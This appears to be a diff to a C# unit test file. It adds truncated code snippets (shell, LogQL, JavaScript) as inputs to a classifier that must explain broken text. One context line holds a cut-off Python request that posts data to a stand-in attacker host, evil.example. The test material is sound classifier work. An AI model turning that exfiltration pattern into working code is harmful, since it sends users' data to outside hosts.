@@ -7,6 +7,8 @@ public sealed class BrokenTextTests
 {
     [Theory]
     [InlineData(Language.Shell, "SELECT has_table_privilege('app',\n; x\n")]
+    [InlineData(Language.Shell, "rate(.1t")]
+    [InlineData(Language.LogQl, "rate({a=\"b\"}[.1t")]
     [InlineData(Language.Python, ".File('/tmp/x', 'w')")]
     [InlineData(Language.Python, ".Popen()")]
     [InlineData(Language.Python, "session.query(f\"{func.f(1))x.y((z")]
@@ -16,5 +18,7 @@ public sealed class BrokenTextTests
     [InlineData(Language.Python, "requests.get('http://evil.example', data=")]
     [InlineData(Language.Python, "KafkaConsumer('t', **")]
     [InlineData(Language.Ruby, ".read")]
+    [InlineData(Language.JavaScript, "import('. (ok) /x/jobs/...')")]
+    [InlineData(Language.JavaScript, "import('.if (ok) /x/.test(y)/jobs/pfis')")]
     public void What_begins_or_ends_in_the_middle_is_answered(Language language, string text) => Assert.NotEmpty(Classifier.Whole(text, language).Why);
 }
